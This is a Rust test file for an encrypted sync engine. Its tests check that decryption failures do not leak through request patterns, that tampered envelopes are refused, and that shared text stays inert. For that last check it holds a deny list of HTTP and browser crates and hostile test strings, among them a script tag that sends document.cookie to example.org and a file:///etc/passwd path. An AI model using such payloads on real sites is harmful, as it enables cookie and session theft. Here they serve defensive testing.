//! Check 23: whether a decryption worked does not show in what a phone asks. Check 24: what is shared is
//! text, and does nothing.

use std::cell::RefCell;
use std::process::Command;
use std::rc::Rc;

use mainstay_core::chapter::Payload;
use mainstay_core::engine::Alarm;
use mainstay_core::space::epoch::EpochKey;
use mainstay_core::space::seal;
use mainstay_core::sync::Local;
use mainstay_protocol::codec;
use mainstay_protocol::envelope::{Chunk, Envelope, Header, Kind};
use mainstay_protocol::frame::{Reply, Request};
use mainstay_tests::network::Line;

use super::watch::{Watch, lying};

/// Puts one more envelope of the second phone on the relay, sealed as `seal` does, and returns what the
/// first phone asks in its next syncs: which requests, and how long each is.
fn asked_after(readable: bool) -> Vec<(std::mem::Discriminant<Request>, usize)> {
    let mut w = Watch::new(23_000);
    let space = w.phones[1].replica.space();
    let (own, epoch, author) = w.to_go_on_from();
    let bytes = seal::open(&space, &own, &epoch).unwrap();
    let payload = Payload::from_bytes(&bytes).unwrap();
    assert!(matches!(payload, Payload::Changes { .. }));
    let (kind, chunk) = (Kind::Change, Chunk::WHOLE);
    let (seq, previous) = (own.header().seq + 1, own.hash(&space));
    let header = Header { kind, chunk, seq, previous, ..own.header().clone() };
    let with = |key: &EpochKey, rng: &mut rand_chacha::ChaCha20Rng| {
        let header = Header { epoch: key.id(), ..header.clone() };
        seal::seal(rng, &space, header, (key, &author), &payload.to_bytes()).unwrap()
    };
    let good = with(&epoch, &mut w.world.rng);
    let other = with(&EpochKey::make(&mut w.world.rng), &mut w.world.rng);
    // The same header over a ciphertext of the same length, which no key opens.
    let bad = Envelope::make(
        &space,
        header.clone(),
        |_| other.ciphertext().to_vec(),
        |input| author.sign(input),
    );
    assert_eq!(good.ciphertext().len(), bad.ciphertext().len());
    let envelope = if readable { good } else { bad };
    let mut connection = w.world.greet_as(space, &author).unwrap().connection;
    let push = Request::Push { space, envelopes: vec![envelope.to_bytes().into()] };
    let reply = w.world.handle(&mut connection, push).remove(0);
    assert!(matches!(reply, Reply::Pushed { .. }), "{reply:?}");
    let asked = Rc::new(RefCell::new(Vec::new()));
    for _ in 0..3 {
        let seen = asked.clone();
        w.sync(
            0,
            lying(move |request: &Request, replies: Vec<Reply>| {
                let size = codec::encode(request).len();
                seen.borrow_mut().push((std::mem::discriminant(request), size));
                replies
            }),
        )
        .unwrap();
    }
    assert_eq!(
        w.alarms[0].contains(&Alarm::Unreadable),
        !readable,
        "the person is told, not the relay"
    );
    asked.take()
}

#[test]
fn check_23_a_phone_asks_the_same_whether_it_could_read_what_came_or_not() {
    let (readable, unreadable) = (asked_after(true), asked_after(false));
    assert!(readable.len() >= 6, "{readable:?}");
    assert_eq!(readable, unreadable);
}

/// Without a device's signature nothing is even tried: what the relay altered never meets a key.
#[test]
fn check_23_what_the_relay_altered_is_refused_before_it_is_opened() {
    let mut w = Watch::new(23_100);
    w.log(0, "to be altered in many ways");
    w.sync(0, Line::default()).unwrap();
    let mut last = None;
    for bit in 0..40_usize {
        // Within the hour the phone does not ask again.
        w.world.now_ms += 3600 * 1000;
        let asked = Rc::new(RefCell::new(Vec::new()));
        let seen = asked.clone();
        let _ = w.sync(
            1,
            lying(move |request, mut replies| {
                seen.borrow_mut()
                    .push((std::mem::discriminant(request), codec::encode(request).len()));
                for reply in &mut replies {
                    let Reply::Items { items, .. } = reply else { continue };
                    for item in items {
                        if let mainstay_protocol::frame::ItemBody::Whole(bytes) = &item.body {
                            let mut altered = bytes.to_vec();
                            // Inside the ciphertext, which is the largest part and lies before the signature.
                            let at = altered.len() - 80 - bit * 4;
                            altered[at] ^= 1 << (bit % 8);
                            item.body = mainstay_protocol::frame::ItemBody::Whole(altered.into());
                        }
                    }
                }
                replies
            }),
        );
        let asked = asked.take();
        if let Some(last) = last.replace(asked.clone()) {
            assert_eq!(last, asked, "wherever it was altered, bit {bit}");
        }
    }
    assert!(w.alarms[1].contains(&Alarm::Forged), "{:?}", w.alarms[1]);
    w.honest_to_the_last();
}

/// The engine links nothing that fetches, opens or renders: no HTTP client, no browser, no HTML.
#[test]
fn check_24_nothing_that_fetches_or_renders_is_linked_into_the_engine() {
    let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
    let manifest = concat!(env!("CARGO_MANIFEST_DIR"), "/../Cargo.toml");
    for package in ["mainstay-core", "mainstay-examples"] {
        let listed = Command::new(&cargo)
            .args(["tree", "--manifest-path", manifest, "-p", package, "-e", "normal"])
            .args(["--prefix", "none", "--locked", "--offline"])
            .output()
            .unwrap();
        assert!(listed.status.success(), "{}", String::from_utf8_lossy(&listed.stderr));
        let listed = String::from_utf8(listed.stdout).unwrap();
        assert!(listed.lines().any(|line| line.starts_with("quinn ")), "the list is whole");
        for fetching in [
            "hyper",
            "reqwest",
            "ureq",
            "curl",
            "isahc",
            "attohttpc",
            "webbrowser",
            "open",
            "opener",
        ] {
            let found = listed.lines().any(|line| line.split(' ').next() == Some(fetching));
            assert!(!found, "{package} links {fetching}");
        }
    }
}

#[test]
fn check_24_addresses_and_markup_in_what_was_written_come_back_as_they_were_written() {
    let mut w = Watch::new(24_000);
    for text in [
        "<script>fetch('https://example.org/?' + document.cookie)</script>",
        "![me](https://example.org/pixel.png?who=me)",
        "\u{1b}]8;;https://example.org\u{1b}\\look\u{1b}]8;;\u{1b}\\",
        "file:///etc/passwd mainstay://example.org:4433#00",
    ] {
        w.log(0, text);
    }
    w.honest_to_the_last();
}
